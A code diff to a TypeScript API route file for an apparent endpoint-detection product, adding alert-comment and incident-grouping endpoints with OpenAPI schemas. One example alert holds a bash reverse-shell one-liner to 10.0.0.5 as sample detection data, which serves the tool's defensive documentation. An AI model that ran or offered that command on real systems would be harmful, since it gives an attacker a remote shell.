@@ -7,11 +7,18 @@ import { sigmaLevels, type DetectEvent, type LoadProblem } from '@vigil/detect';
 import type { ControlPlane } from '../control-plane/sqlite.js';
 import { alertStatuses, type AlertStatus, type DetectionDb } from '../detection/detection-db.js';
 import { BUILTIN_PACK, type DetectionService } from '../detection/detection-service.js';
+import { AlertComments, MAX_COMMENT_CHARS } from '../detection/alert-comments.js';
+import { createIncidentService, storeLineage } from '../detection/incidents.js';
+import type { EventStore } from '@vigil/store';
 
 export interface DetectionRouteDeps {
   controlPlane: ControlPlane;
   db: DetectionDb;
   detection: DetectionService;
+  /** Process lineage for incident grouping. */
+  store: Pick<EventStore, 'search'>;
+  /** Incident window (default 30 minutes). */
+  incidentWindowMs?: number;
 }
 
 const MAX_PACK_BYTES = 64 * 1024 * 1024;
@@ -55,6 +62,37 @@ const exampleAlert = {
   tags: ['attack.execution'], hostId: exampleHostId, processKey: '4242', firstSeen: exampleTime, lastSeen: exampleTime, count: 1, eventIds: ['5c6d7e8f-1a2b-4c3d-9e0f-112233445566'],
   fields: [{ field: 'CommandLine', value: 'bash -i >& /dev/tcp/10.0.0.5/4444 0>&1' }], group: null, status: 'new', assignee: null, createdAt: exampleTime, updatedAt: exampleTime,
 };
+const commentSchema = {
+  type: 'object',
+  required: ['id', 'alertId', 'author', 'authorKind', 'text', 'createdAt'],
+  properties: { id: { type: 'string' }, alertId: { type: 'string' }, author: { type: 'string', description: 'The user or API token that wrote it' }, authorKind: { type: 'string', enum: ['user', 'api_token'] }, text: { type: 'string' }, createdAt: isoDate },
+};
+const exampleComment = { id: '3e4f5a6b-7c8d-4e9f-a0b1-c2d3e4f5a6b7', alertId: exampleAlert.id, author: 'alice', authorKind: 'user', text: 'Reverse shell to 10.0.0.5 confirmed; host isolated.', createdAt: exampleTime };
+const incidentSchema = {
+  type: 'object',
+  required: ['id', 'hostId', 'status', 'assignee', 'firstSeen', 'lastSeen', 'level', 'alertCount', 'openAlerts', 'rules', 'tags', 'alerts', 'createdAt', 'updatedAt'],
+  properties: {
+    id: { type: 'string' },
+    hostId: { type: 'string' },
+    status: { type: 'string', enum: [...alertStatuses], description: 'Set on the incident and applied to its alerts; alerts triaged one by one may differ' },
+    assignee: nullable({ type: 'string' }),
+    firstSeen: isoDate,
+    lastSeen: isoDate,
+    level: { type: 'string', enum: [...sigmaLevels], description: 'Highest level of its alerts' },
+    alertCount: { type: 'integer' },
+    openAlerts: { type: 'integer', description: 'Alerts not resolved or false positive' },
+    rules: { type: 'array', items: { type: 'string' } },
+    tags: { type: 'array', items: { type: 'string' }, description: 'ATT&CK tags of its alerts' },
+    alerts: { type: 'array', items: alertSchema, description: 'Oldest first, at most 200' },
+    createdAt: isoDate,
+    updatedAt: isoDate,
+  },
+};
+const exampleIncident = {
+  id: '7d6c5b4a-3e2f-4a1b-9c8d-7e6f5a4b3c2d', hostId: exampleHostId, status: 'new', assignee: null, firstSeen: exampleTime, lastSeen: exampleTime, level: 'high', alertCount: 1, openAlerts: 1,
+  rules: [exampleAlert.ruleTitle], tags: ['attack.execution'], alerts: [exampleAlert], createdAt: exampleTime, updatedAt: exampleTime,
+};
+const triageBody = { type: 'object', additionalProperties: false, minProperties: 1, properties: { status: { type: 'string', enum: [...alertStatuses] }, assignee: { type: ['string', 'null'], maxLength: 64 } } };
 const problemSchema = {
   type: 'object',
   required: ['severity', 'code', 'message', 'file', 'line', 'column'],
@@ -92,6 +130,8 @@ function safeFile(file: string): string {
 export function registerDetectionRoutes(app: FastifyInstance, deps: DetectionRouteDeps): void {
   const { controlPlane, db, detection } = deps;
   const actor = (request: { principal?: { name: string } }) => request.principal?.name ?? 'unknown';
+  const comments = new AlertComments(db);
+  const incidents = createIncidentService({ db, lineage: storeLineage(deps.store), ...(deps.incidentWindowMs ? { windowMs: deps.incidentWindowMs } : {}) });
 
   // ---- alerts ----
   app.get(
@@ -144,7 +184,7 @@ export function registerDetectionRoutes(app: FastifyInstance, deps: DetectionRou
         tags: ['alerts'],
         summary: 'Triage an alert: status and assignee', description: 'Sets the status (new, acknowledged, in_progress, resolved, false_positive) and the assignee of an alert; written to the audit log.', response: { 200: { description: 'The updated alert', ...alertSchema, examples: [{ ...exampleAlert, status: 'acknowledged', assignee: 'analyst1' }] } },
         params: idParams,
-        body: { type: 'object', additionalProperties: false, minProperties: 1, properties: { status: { type: 'string', enum: [...alertStatuses] }, assignee: { type: ['string', 'null'], maxLength: 64 } }, examples: [{ status: 'in_progress', assignee: 'alice' }] },
+        body: { ...triageBody, examples: [{ status: 'in_progress', assignee: 'alice' }] },
       },
     },
     async (request) => {
@@ -152,6 +192,85 @@ export function registerDetectionRoutes(app: FastifyInstance, deps: DetectionRou
       const body = request.body as { status?: AlertStatus; assignee?: string | null };
       const updated = db.updateAlert(id, body);
       controlPlane.audit(actor(request), 'alert.update', id, 'success', body);
+      return updated;
+    },
+  );
+
+  app.get(
+    '/api/v1/alerts/:id/comments',
+    { config: { permission: 'alerts:read' }, schema: { tags: ['alerts'], summary: "An alert's comments, oldest first", description: 'Comments analysts wrote on the alert, with author and time.', response: { 200: { description: 'Comments', type: 'array', items: commentSchema, examples: [[exampleComment]] } }, params: idParams } },
+    async (request) => comments.list((request.params as { id: string }).id),
+  );
+
+  app.post(
+    '/api/v1/alerts/:id/comments',
+    {
+      config: { permission: 'alerts:manage' },
+      schema: {
+        tags: ['alerts'],
+        summary: 'Comment on an alert',
+        description: 'Adds a comment to the alert; the author is the signed-in user or API token and the time is the server\'s. Written to the audit log.',
+        response: { 201: { description: 'The stored comment', ...commentSchema, examples: [exampleComment] } },
+        params: idParams,
+        body: { type: 'object', required: ['text'], additionalProperties: false, properties: { text: { type: 'string', minLength: 1, maxLength: MAX_COMMENT_CHARS, pattern: '\\S' } }, examples: [{ text: exampleComment.text }] },
+      },
+    },
+    async (request, reply) => {
+      const { id } = request.params as { id: string };
+      const principal = request.principal;
+      const comment = comments.add(id, { name: principal?.name ?? 'unknown', kind: principal?.kind ?? 'user' }, (request.body as { text: string }).text);
+      controlPlane.audit(actor(request), 'alert.comment', id, 'success', { comment: comment.id, chars: comment.text.length });
+      return reply.status(201).send(comment);
+    },
+  );
+
+  // ---- incidents ----
+  app.get(
+    '/api/v1/incidents',
+    {
+      config: { permission: 'alerts:read' },
+      schema: {
+        tags: ['alerts'],
+        summary: 'List incidents, newest activity first',
+        description: 'Incidents group alerts of the same host whose acting processes share a process tree (an ancestor process entity id) within a time window (default 30 minutes). Filtered by status (open: new, acknowledged or in progress) and host.',
+        response: { 200: { description: 'Incidents', type: 'array', items: incidentSchema, examples: [[exampleIncident]] } },
+        querystring: {
+          type: 'object',
+          additionalProperties: false,
+          properties: { status: { type: 'string', enum: ['open', ...alertStatuses] }, host_id: { type: 'string', maxLength: 200 }, limit: { type: 'integer', minimum: 1, maximum: 2000, default: 100 } },
+        },
+      },
+    },
+    async (request) => {
+      const q = request.query as { status?: AlertStatus | 'open'; host_id?: string; limit?: number };
+      return incidents.list({ ...(q.status ? { status: q.status } : {}), ...(q.host_id ? { hostId: q.host_id } : {}), ...(q.limit ? { limit: q.limit } : {}) });
+    },
+  );
+
+  app.get(
+    '/api/v1/incidents/:id',
+    { config: { permission: 'alerts:read' }, schema: { tags: ['alerts'], summary: 'One incident with its alerts', description: 'One incident by id, with its alerts oldest first.', response: { 200: { description: 'The incident', ...incidentSchema, examples: [exampleIncident] } }, params: idParams } },
+    async (request) => incidents.get((request.params as { id: string }).id),
+  );
+
+  app.patch(
+    '/api/v1/incidents/:id',
+    {
+      config: { permission: 'alerts:manage' },
+      schema: {
+        tags: ['alerts'],
+        summary: 'Triage an incident: status and assignee of it and all its alerts',
+        description: 'Sets the status and/or assignee of the incident and of every alert in it, in one transaction; written to the audit log.',
+        response: { 200: { description: 'The updated incident', ...incidentSchema, examples: [{ ...exampleIncident, status: 'in_progress', assignee: 'alice', alerts: [{ ...exampleAlert, status: 'in_progress', assignee: 'alice' }] }] } },
+        params: idParams,
+        body: { ...triageBody, examples: [{ status: 'in_progress', assignee: 'alice' }] },
+      },
+    },
+    async (request) => {
+      const { id } = request.params as { id: string };
+      const body = request.body as { status?: AlertStatus; assignee?: string | null };
+      const updated = await incidents.update(id, body);
+      controlPlane.audit(actor(request), 'incident.update', id, 'success', { ...body, alerts: updated.alertCount });
       return updated;
     },
   );
